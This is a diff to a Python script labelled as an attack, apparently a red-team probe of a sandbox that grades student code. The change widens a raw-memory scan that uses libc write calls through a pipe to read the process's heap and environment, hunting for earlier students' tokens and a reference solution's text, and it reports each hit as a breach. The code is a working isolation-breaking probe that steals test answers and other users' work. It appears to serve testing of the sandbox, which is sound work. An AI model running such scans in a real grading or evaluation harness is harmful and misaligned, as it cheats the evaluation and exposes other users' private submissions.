@@ -1,4 +1,4 @@
-# attack: searches all memory for what an earlier student handed in
+# attack: searches all memory for the reference, and for what an earlier student handed in
 # verdict: none
 # score: 10
 # uncaged: none
@@ -23,44 +23,45 @@ def syscall(x86, arm, *arguments):
 
 
 # Written so that what is searched for stands nowhere in this file.
-EARLIER = re.compile(b"[e]arlier [s]tudent [t]oken [0-9a-f]{8}")
+OTHERS = re.compile(b"[e]arlier [s]tudent [t]oken [0-9a-f]{8}|[M]ix the [v]alues")
 OWN = re.compile(b"[o]wn [t]oken [0-9a-f]{8}")
 planted = bytes.fromhex("6f776e20746f6b656e203132333461626364")  # shows that the search finds things
 libc.sbrk.restype = ctypes.c_void_p
-STEP, REACH = 2**12, 2**24
+STEP, REACH = 2**16, 2**24
+out, probe = os.pipe()
+os.set_blocking(probe, False)
 
 
-def readable(fd, address):
-    return libc.write(fd, ctypes.c_void_p(address), 1) == 1
+def memory(address):
+    # What is there, as far as it can be read: the kernel copies it, and says no where there is nothing.
+    size = libc.write(probe, ctypes.c_void_p(address), STEP)
+    return os.read(out, size) if size > 0 else b""
 
 
-def search(start, step, probe, out):
-    address, misses = start // STEP * STEP, 0
-    found = set()
-    while misses < 256 and abs(address - start) < REACH:
-        if readable(probe, address) and readable(probe, address + STEP - 1):
-            os.read(out, 2)
-            chunk = ctypes.string_at(address, STEP)
-            found.update(match.group().split()[0] for match in EARLIER.finditer(chunk))
-            found.update(match.group().split()[0] for match in OWN.finditer(chunk))
-            misses = 0
-        else:
-            misses += 1
-        address += step
-    return found
+def search(data):
+    for word in (b" token ", b"Mix the "):
+        at = data.find(word)
+        while at >= 0:
+            around = data[max(0, at - 32) : at + 32]
+            for pattern in (OTHERS, OWN):
+                yield from (match.group().split()[0] for match in pattern.finditer(around))
+            at = data.find(word, at + 1)
 
 
 def attack():
-    out, probe = os.pipe()
-    os.set_blocking(out, False)
-    found = set()
+    found, seen = set(), set()
     for start in (libc.sbrk(0) - STEP, id(planted), id(np), id(os.environ), id(attack)):
         for step in (STEP, -STEP):
-            found |= search(start, step, probe, out)
-    os.close(out)
-    os.close(probe)
-    if b"earlier" in found:
-        print("BREACH: an earlier student's source", flush=True)
+            address, misses = start // STEP * STEP, 0
+            while misses < 64 and abs(address - start) < REACH:
+                if address not in seen:
+                    seen.add(address)
+                    data = memory(address)
+                    found.update(search(data))
+                    misses = 0 if data else misses + 1
+                address += step
+    for other in found - {b"own"}:
+        print("BREACH: the source of somebody else:", other, flush=True)
     if b"own" in found:
         print("tried")
 
